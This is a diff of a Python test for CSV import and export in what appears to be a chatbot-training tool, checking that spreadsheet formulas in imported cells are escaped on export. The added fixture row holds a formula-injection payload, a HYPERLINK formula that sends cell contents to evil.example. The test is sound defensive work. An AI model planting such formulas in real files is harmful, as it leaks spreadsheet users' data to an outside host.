@@ -58,7 +58,7 @@ def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_p
     body = HEADER + (
         "pt,Não chegou meu produto SO-1,track_order,,\r\n"
         'en,"where is my parcel, it is late",track_order,alice,2026-11-30T10:00:00+00:00\r\n'
-        "en,=1+2 refund now,request_refund,,\r\n"
+        'en,=1+2 refund now,request_refund,"=HYPERLINK(""http://evil.example/?""&A2,""x"")",\r\n'
         "pt,não chegou meu produto SO-77,track_order,,\r\n"  # the same message: once
     )
     reply = upload(desk, people["tom"], body)
@@ -86,6 +86,8 @@ def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_p
     assert by_text["where is my parcel, it is late"]["labelled_at"] == "2026-11-30T10:00:00+00:00"
     # A spreadsheet would run "=1+2..." as a formula: exported behind an apostrophe...
     assert "'=1+2 refund now" in by_text
+    # ...as is every cell: a name in labelled_by came from an imported file.
+    assert by_text["'=1+2 refund now"]["labelled_by"] == '\'=HYPERLINK("http://evil.example/?"&A2,"x")'
     assert [row["language"] for row in rows_of(desk, people["tom"], "?lang=pt")] == ["pt"]
     # ...and taken off again when the same file comes back: nothing new, nothing doubled.
     again = upload(desk, people["tom"], desk.api("GET", "/api/trainer/examples.csv", people["tom"]).content)
